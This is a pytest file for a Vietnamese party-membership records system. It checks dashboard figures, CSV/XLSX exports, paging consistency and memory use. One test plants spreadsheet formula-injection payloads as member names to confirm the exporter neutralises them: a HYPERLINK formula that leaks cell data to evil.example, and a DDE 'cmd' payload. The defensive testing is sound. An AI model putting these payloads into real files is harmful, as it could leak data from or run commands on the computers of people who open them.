"""The generated province's dashboard reproduces the reported proportions; the export equals it."""

from __future__ import annotations

import csv
import dataclasses
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import psycopg
import pytest

from api.i18n import label as catalogue_label
from application.office import LiaisonOffice
from projections.catalog import all_models
from projections.dashboard import Period, dashboard
from projections.reads import connect
from projections.runner import Projector
from tests.scale.conftest import SUPERVISOR, TODAY
from workers.province import demo, export
from workers.province.bulk import BulkWriter
from workers.province.demo_tree import PROVINCE, Tree, write_tree
from workers.province.export import (
    FIGURES,
    Cell,
    export_list,
    export_statistics,
    value,
    write_table,
)
from workers.province.importer import Source, import_records
from workers.province.records import MemberRecord

N = 1000  # the smallest size with an exemption from introduction (24 in 44,156)
END = date(2021, 12, 31)  # three years: 2019 under Regulation 76, 2020-2021 under 213


def _load(office: LiaisonOffice, pg_env: dict[str, str]) -> demo.Province:
    province = demo.generate(N, seed=11, until=END, years=3)
    _import(office, pg_env, province.tree, province.records, "e")
    return province


def _import(
    office: LiaisonOffice,
    pg_env: dict[str, str],
    tree: Tree,
    records: list[MemberRecord],
    digest: str,
) -> None:
    """Write the tree, import the records without a problem, and catch every read model up."""
    write_tree(office, tree, BulkWriter(office))
    report = import_records(office, records, Source("t", digest * 64), SUPERVISOR, TODAY)
    assert report.problems == []
    projector = Projector(pg_env, all_models())
    try:
        projector.catch_up()
    finally:
        projector.close()


def _near(grades: dict[str, dict[str, object]], weights: dict[str, int]) -> None:
    total = sum(int(str(g["count"])) for g in grades.values())
    assert total > 0
    for code, weight in weights.items():
        expected = total * weight / sum(weights.values())
        assert abs(int(str(grades.get(code, {}).get("count", 0))) - expected) < 1, code


async def test_dashboard_proportions_and_export(
    office: LiaisonOffice, pg_env: dict[str, str], pg_url: str, tmp_path: Path
) -> None:
    _load(office, pg_env)
    conn = await connect(pg_url)
    try:
        board = await dashboard(conn, Period(PROVINCE, END, year=2021))
        old = await dashboard(conn, Period(PROVINCE, date(2019, 12, 31), year=2019))
    finally:
        await conn.close()
    now, vl = board["current"], demo.VINH_LONG
    assert now["members_in_scope"] == N
    assert value(now, "exempt_from_introduction") == round(N * 24 / vl["members"])
    assert value(now, "exempt_from_activities") == round(N * 71 / vl["members"])
    _near(now["grades"], demo.CAN_THO_213)
    _near(old["current"]["grades"], demo.CAN_THO_76)

    path = tmp_path / "statistics.csv"
    exported = await export_statistics(pg_url, Period(PROVINCE, END, year=2021), path, "en")
    assert exported == board
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    by_label = {r[0]: r for r in rows if r}
    for key in FIGURES:
        this, last = value(board["current"], key), value(board["previous_year"], key)
        assert by_label[catalogue_label("figure", key, "en")][1:3] == [str(this), str(last)], key
    for code, grade in board["current"]["grades"].items():
        assert by_label[catalogue_label("grade", code, "en")][1] == str(grade["count"])

    listed = await export_list(
        pg_url,
        Period(PROVINCE, END, year=2021),
        "exempt_from_activities",
        tmp_path / "l.xlsx",
        "vi",
    )
    assert listed == value(now, "exempt_from_activities")
    _as_the_board_lists_them(tmp_path / "l.xlsx", set(now["exempt_from_activities"]))

    meetings = tmp_path / "m.csv"
    period = Period(PROVINCE, END, year=2021)
    assert (
        await export_list(pg_url, period, "meetings_held", meetings, "vi") == now["meetings_held"]
    )
    with meetings.open(encoding="utf-8-sig", newline="") as f:
        _, *held = list(csv.reader(f))
    # each meeting by its cell's name alone: no member, so no stage (one was "Chưa giới thiệu")
    assert held
    assert all(r[:2] == ["", ""] and r[4] == "" for r in held)
    assert all(r[2] and not r[2].startswith("DEMO") for r in held)


def _as_the_board_lists_them(path: Path, reasons: set[str]) -> None:
    """A list exported in Vietnamese reads as the board does: its sheet and header in words, each
    unit by name, each reason in words, no code, uuid or English word (they once held the units'
    codes, the reasons' codes, `True` and `False`, and a sheet named `exempt_from_activities`)."""
    import openpyxl

    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [catalogue_label("figure", "exempt_from_activities", "vi")]
    header, *rows = [[c.value for c in row] for row in book.active.iter_rows()]
    assert header == ["Họ và tên", "Số thẻ đảng viên", "Đơn vị", "Ghi chú", "Giai đoạn", "Quá hạn"]
    assert rows
    shown = {catalogue_label("exemption", r, "vi") for r in reasons}
    assert shown.isdisjoint(reasons)  # each reason has words of its own
    for name, card, unit, comment, stage, overdue in rows:
        assert all((name, card, stage, unit))
        assert not unit.startswith("DEMO"), unit  # a name, not a code
        assert comment in shown, comment
        assert overdue in (None, "Quá hạn"), overdue


FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Xem hồ sơ")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
async def test_an_exported_list_never_holds_a_formula(
    office: LiaisonOffice, pg_env: dict[str, str], pg_url: str, tmp_path: Path, suffix: str
) -> None:
    province = demo.generate(30, seed=7, until=date(2025, 12, 31))
    records = [
        dataclasses.replace(r, name=name)
        for r, name in zip(province.records, FORMULAS, strict=False)
    ]
    _import(office, pg_env, province.tree, records, "f")
    path = tmp_path / f"list{suffix}"
    period = Period(PROVINCE, date(2025, 12, 31), year=2025)
    assert await export_list(pg_url, period, "members_in_scope", path, "en") == len(FORMULAS)
    if suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as f:
            names = [row[0] for row in list(csv.reader(f))[1:]]
        assert sorted(names) == sorted(f"'{name}" for name in FORMULAS)
        return
    with zipfile.ZipFile(path) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
        styles = book.read("xl/styles.xml").decode()
    assert "<f>" not in xml  # openpyxl would have written each of these names as a formula
    import openpyxl  # type: ignore[import-untyped]

    sheet = openpyxl.load_workbook(path).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)  # the names themselves, as text
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert 'quotePrefix="1"' in styles


async def test_a_member_recorded_during_an_export_shifts_no_page(
    office: LiaisonOffice,
    pg_env: dict[str, str],
    pg_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """An export reads its list a batch at a time; a member recorded after its first batch,
    named before everyone, once shifted the pages after it by one (each page a statement of its
    own): the first page's last member was written twice. Every batch is now read in one
    snapshot, from one statement."""
    province = demo.generate(30, seed=7, until=date(2025, 12, 31))
    _import(office, pg_env, province.tree, province.records, "g")
    period = Period(PROVINCE, date(2025, 12, 31), year=2025)
    monkeypatch.setattr(export, "EXPORT_PAGE", 10)
    reading, recorded = export.every_member_behind, []

    async def recording(*args: Any) -> Any:
        async for batch in reading(*args):
            yield batch
            if not recorded:
                with psycopg.connect(pg_url, autocommit=True) as writer:
                    writer.execute(_RECORDED)
                recorded.append(1)

    monkeypatch.setattr(export, "every_member_behind", recording)
    path = tmp_path / "l.csv"
    listed = await export_list(pg_url, period, "members_in_scope", path, "en")
    with path.open(encoding="utf-8-sig", newline="") as f:
        cards = [row[1] for row in list(csv.reader(f))[1:]]
    assert recorded
    assert listed == len(cards) > 20
    assert len(set(cards)) == len(cards)
    assert "X-0" not in cards


_RECORDED = (
    "WITH m AS (INSERT INTO member (member_id, name, name_folded, party_card_number,"
    " workplace_unit_id, search_keys) SELECT gen_random_uuid(), 'A', 'a', 'X-0', workplace_id,"
    " '{}' FROM fact WHERE kind = 'registered' LIMIT 1 RETURNING member_id, workplace_unit_id)"
    " INSERT INTO fact (notification_id, seq, kind, member_id, workplace_id, effective_date,"
    " recorded_at) SELECT (SELECT max(notification_id) + 1 FROM fact), 0, 'registered',"
    " member_id, workplace_unit_id, DATE '2020-01-01', now() FROM m"
)
"""A member named before everyone, registered at a workplace of the province."""


def test_a_table_written_by_the_exporter_neutralises_every_formula_start(tmp_path: Path) -> None:
    rows: list[list[Cell]] = [
        ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", -5, 2.5, None, "a=b"]
    ]
    write_table(rows, tmp_path / "t.csv", "t")
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as f:
        (written,) = list(csv.reader(f))
    assert written == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\tx",
        "'\rx",
        "plain",
        "-5",
        "2.5",
        "",
        "a=b",
    ]
    write_table(rows, tmp_path / "t.xlsx", "t")
    import openpyxl

    (row,) = openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows()
    expected = [
        v.replace("\r", "\n") if isinstance(v, str) else v for v in rows[0]
    ]  # XML reads CR as LF
    assert [c.value for c in row] == [*expected[:9], None, "a=b"]
    assert [c.data_type for c in row[:6]] == ["s"] * 6
    assert [c.data_type for c in row[7:9]] == ["n", "n"]  # numbers stay numbers


def test_a_table_keeps_no_row_once_added(tmp_path: Path) -> None:
    """An export adds its list a batch at a time: the memory it holds does not grow with the
    list (the 20,000 rows below, held at once, take 5.2 MB; a province's list holds 300,000).
    openpyxl's write-only sheet keeps its added rows on disk by design."""
    import tracemalloc

    def batch(start: int) -> list[list[Cell]]:
        return [
            [f"Nguyễn Văn {n}", f"{93000000 + n}", "Chi bộ 1", None, "Đang sinh hoạt", None]
            for n in range(start, start + 1000)
        ]

    path = tmp_path / "t.csv"
    tracemalloc.start()
    try:
        with export.table_at(path, "t") as add:
            for start in range(0, 20_000, 1000):
                add(batch(start))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 2**20
    with path.open(encoding="utf-8-sig", newline="") as f:
        written = list(csv.reader(f))
    assert len(written) == 20_000
    assert written[-1][:2] == ["Nguyễn Văn 19999", "93019999"]


def test_a_table_whose_rows_fail_leaves_no_file(tmp_path: Path) -> None:
    """An export whose read fails halfway writes no file, not the half read (nor a stray one
    beside it), and leaves a file of that name from before as it was."""
    path = tmp_path / "t.csv"
    path.write_text("before")

    def half_read() -> None:
        with export.table_at(path, "t") as add:
            add([["a", 1]])
            raise RuntimeError("the read failed")

    with pytest.raises(RuntimeError):
        half_read()
    assert path.read_text() == "before"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]
